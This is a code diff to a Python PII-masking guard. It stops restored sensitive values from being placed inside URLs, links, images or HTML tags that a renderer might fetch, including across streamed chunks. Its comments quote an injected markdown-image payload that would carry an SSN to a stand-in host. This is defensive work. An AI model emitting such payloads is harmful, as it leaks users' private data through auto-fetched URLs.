@@ -25,6 +25,7 @@ instead and writes a ``fail_open`` audit record.
 from __future__ import annotations
 
 import asyncio
+import bisect
 import contextlib
 import dataclasses
 import functools
@@ -173,8 +174,11 @@ class Guard:
         fail_open: bool = False,
         tenant: str | None = None,
         scope: str = DEFAULT_SCOPE,
+        restore_in_urls: bool | None = None,
     ) -> None:
         self.policy: Policy = as_policy(policy)
+        # None: the policy decides (``restore_in_urls``, off by default)
+        self.restore_in_urls = restore_in_urls
         master = load_master_key(key)
         if master is None and not isinstance(store, Store):
             url = resolve_url(store)
@@ -755,6 +759,12 @@ class Guard:
             return text
         entries = self._vault.lookup(scope, {c.canon for c in cands})
         roles = self.policy.roles_of(who)
+        in_urls = self.restore_in_urls if self.restore_in_urls is not None else self.policy.restore_in_urls
+        # Spans where a restored value would land inside a URL the reader's UI may fetch
+        # on its own (image, link, tag attribute): an injected ![](https://x/?d=[SSN_1])
+        # must not turn into a request carrying the value.  The whole text is scanned,
+        # text[:start] included, so a streamed piece sees the URL it continues.
+        url_spans = [] if in_urls else _url_spans(text)
         parts: list[str] = [text[:start]] if start else []
         pos = start
         for c in cands:
@@ -769,6 +779,9 @@ class Guard:
                 entry.fingerprint,
                 "surrogate" if c.kind == "surrogate" else "tokenize",
             )
+            if url_spans and _inside(url_spans, c.start):
+                acc.refused.append((ref, "url-context"))
+                continue
             decision = self.policy.decide(entry.entity_type, to, who, purpose, roles)
             if not decision.allowed:
                 acc.refused.append((ref, decision.rule))
@@ -851,16 +864,24 @@ class Guard:
     ) -> StreamRestorer:
         """An incremental restorer: ``feed(chunk)`` returns what can be shown now, ``flush()`` the rest."""
         self._check_recipient(to)
+        # The raw text already streamed (a bounded tail): restoring a piece must see the URL
+        # it continues (``![](https://x/?d=`` in one chunk, ``[SSN_1])`` in the next) exactly
+        # as unmask() of the whole text would.
+        seen = [""]
+        seen_lock = threading.Lock()
 
         def restore(piece: str, before: str) -> str:
             if not piece:
                 return piece
             sc, who = self._scope(scope), self._who(principal)
             acc = _Acc()
-            self._vault.sync()
-            out = self._unmask_text(before + piece, sc, to, who, purpose, acc, start=len(before))
+            with seen_lock:
+                history = seen[0] or before
+                self._vault.sync()
+                out = self._unmask_text(history + piece, sc, to, who, purpose, acc, start=len(history))
+                seen[0] = _stream_tail(history + piece)
             self._audit_unmask(acc, sc, to, who, purpose)
-            return out[len(before) :]
+            return out[len(history) :]
 
         def safe_cut(buf: str, cut: int) -> int:
             for m in self._pattern().finditer(buf):
@@ -1096,6 +1117,53 @@ def _escape_like(surface: str, value: str) -> str:
     if low.startswith("%5b"):
         return urllib.parse.quote(value, safe="")
     return value
+
+
+# Where a URL (or something a renderer fetches) starts, and how far it runs:
+#   scheme://... and www.... up to whitespace (autolinks, bare URLs, reference definitions);
+#   Markdown link/image targets "](" up to whitespace or, for the <...> form, up to ">";
+#   CSS url(...);  an open HTML tag "<img ...>" as a whole (src, href, srcset, style, ...).
+_URL_CONTEXT_RE = re.compile(
+    r"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//\S*"
+    r"|(?<![A-Za-z0-9_])www\.\S*"
+    r"|\]\(\s*<[^>\n]*"
+    r"|\]\(\S*"
+    r"|(?i:url)\([^)\n]*"
+    r"|<[A-Za-z][^<>]*",
+)
+
+
+def _url_spans(text: str) -> list[tuple[int, int]]:
+    """Sorted, non-overlapping spans of ``text`` that are URL context (see ``_URL_CONTEXT_RE``)."""
+    if "/" not in text and "(" not in text and "<" not in text and "www." not in text.lower():
+        return []
+    return [(m.start(), m.end()) for m in _URL_CONTEXT_RE.finditer(text)]
+
+
+_STREAM_TAIL = 2048  # raw characters of history kept for URL context (more if a URL is still open)
+_STREAM_TAIL_MAX = 1 << 20
+
+
+def _stream_tail(text: str) -> str:
+    """What a stream restorer keeps of the raw text streamed so far: the last
+    ``_STREAM_TAIL`` characters, or from the start of a URL context still open at the
+    end (an ``<img src=`` padded past the tail must not escape the check), bounded."""
+    if len(text) <= 2 * _STREAM_TAIL:
+        return text
+    keep = len(text) - _STREAM_TAIL
+    spans = _url_spans(text)
+    if spans and spans[-1][1] >= len(text):
+        keep = min(keep, spans[-1][0])
+    return text[max(keep, len(text) - _STREAM_TAIL_MAX) :]
+
+
+def _inside(spans: list[tuple[int, int]], start: int) -> bool:
+    """Whether position ``start`` lies in one of the sorted ``spans``.
+
+    Only where the token starts counts: a URL context that begins inside the token
+    (``[SSN_1](`` as link text) depends on what follows it, which a stream has not seen yet."""
+    i = bisect.bisect_right(spans, (start, len(spans) and 1 << 62)) - 1
+    return i >= 0 and spans[i][0] <= start < spans[i][1]
 
 
 @functools.lru_cache(maxsize=1)
